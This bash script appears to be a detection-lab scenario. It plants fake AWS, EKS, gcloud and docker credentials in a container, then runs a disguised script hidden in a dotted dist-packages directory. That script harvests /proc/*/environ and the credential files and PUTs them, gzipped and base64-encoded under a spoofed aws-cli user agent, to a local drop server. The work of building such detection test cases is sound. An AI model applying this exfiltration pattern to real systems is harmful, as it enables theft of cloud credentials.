#!/bin/bash
# Scenario cloudcreds: cloud credential theft, other paths and tools than k8screds. The
# workload (pid 1) runs with AWS keys, a role ARN and an EKS web-identity token file in its
# environment; the token (a JWT) is mounted at /var/run/secrets/eks.amazonaws.com/
# serviceaccount/token, gcloud application-default credentials (a refresh token) and a docker
# config with registry credentials are mounted under /home/app. Later a Python script reads
# /proc/*/environ and those files, gzips and base64-encodes them and PUTs them with an AWS CLI
# user agent to 127.106.x.y; the receiver reads it all and never answers.
# Usage: lab/scenarios/cloudcreds.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init cloudcreds "$@"
lab_use_tools_image

DROP="$(lab_addr 106):$(lab_pick 9000 8081 8200)"
URL="http://$DROP/uploads/$(lab_hex 6).gz"
UA="aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0-18-amd64 exe/x86_64.debian.12 prompt/off command/s3.cp"
THIEF=/usr/lib/python3/dist-packages/.cache/pkg_update.py
ACCOUNT=$(lab_rand 100000000000 999999999999)
ROLE="arn:aws:iam::$ACCOUNT:role/image-resizer-irsa"
TOKFILE=/var/run/secrets/eks.amazonaws.com/serviceaccount/token
lab_host_dir POD pods
mkdir -p "$POD/eks" "$POD/gcloud" "$POD/docker"
"$LAB_PY" "$LAB_DIR/lib/fakedata.py" secrets "$WORK/sec" --namespace media --sa image-resizer >/dev/null || lab_die "fakedata failed"
V=$WORK/sec/values.json
cp "$WORK/sec/token" "$POD/eks/token"
cp "$WORK/sec/gcloud_adc.json" "$POD/gcloud/application_default_credentials.json"
cp "$WORK/sec/docker_config.json" "$POD/docker/config.json"
lab_template "$SPEC/pkg_update.py" "$WORK/pkg_update.py" "URL=$URL" "UA=$UA"

lab_peer_on drop "$DROP" perl "$PEERS/sink.pl" --listen "$DROP" --read request --summary "$WORK/peer-drop.json"

lab_run --env APP_ENV=prod --env AWS_REGION=eu-central-1 --env "AWS_ROLE_ARN=$ROLE" \
    --env "AWS_WEB_IDENTITY_TOKEN_FILE=$TOKFILE" \
    --env "AWS_ACCESS_KEY_ID=$(lab_json_pick "$V" aws_access_key_id)" \
    --env "AWS_SECRET_ACCESS_KEY=$(lab_json_pick "$V" aws_secret_access_key)" \
    -v "$POD/eks:/var/run/secrets/eks.amazonaws.com/serviceaccount:ro" \
    -v "$POD/gcloud:/home/app/.config/gcloud:ro" -v "$POD/docker:/home/app/.docker:ro" \
    --hostname image-resizer -- sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
lab_cp "$WORK/pkg_update.py" "$THIEF" 0644
lab_exec_bg "python3 $THIEF"
lab_wait "drop server got the loot" 15 \
    lab_json "$WORK/peer-drop.json" 'd["sessions"] and d["sessions"][0]["requests"] and d["sessions"][0]["requests"][0].get("body_sha256")'

lab_finish "$THIEF" "$TOKFILE" /home/app/.config/gcloud/application_default_credentials.json /home/app/.docker/config.json

lab_kv_json "$WORK/params.json" "drop=$DROP" "url=$URL" "user_agent=$UA" "thief_path=$THIEF" \
    "role_arn=$ROLE" "token_file=$TOKFILE" "encoding=json+gzip+base64" "method=PUT" \
    "stolen_paths:=$(lab_json_list /proc/1/environ "$TOKFILE" /home/app/.config/gcloud/application_default_credentials.json \
        /home/app/.docker/config.json)" \
    "secrets:=$(lab_json_pick "$V" jwt jwt_sub aws_access_key_id aws_secret_access_key gcp_adc_client_id \
        gcp_adc_client_secret gcp_adc_refresh_token docker_registry docker_auth)"
lab_facts --conn "thief=$DROP"
lab_truth --description "cloud credential theft: python3 $THIEF reads /proc/*/environ, the EKS web-identity token, gcloud and docker credentials and PUTs them (gzip+base64) to $URL" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
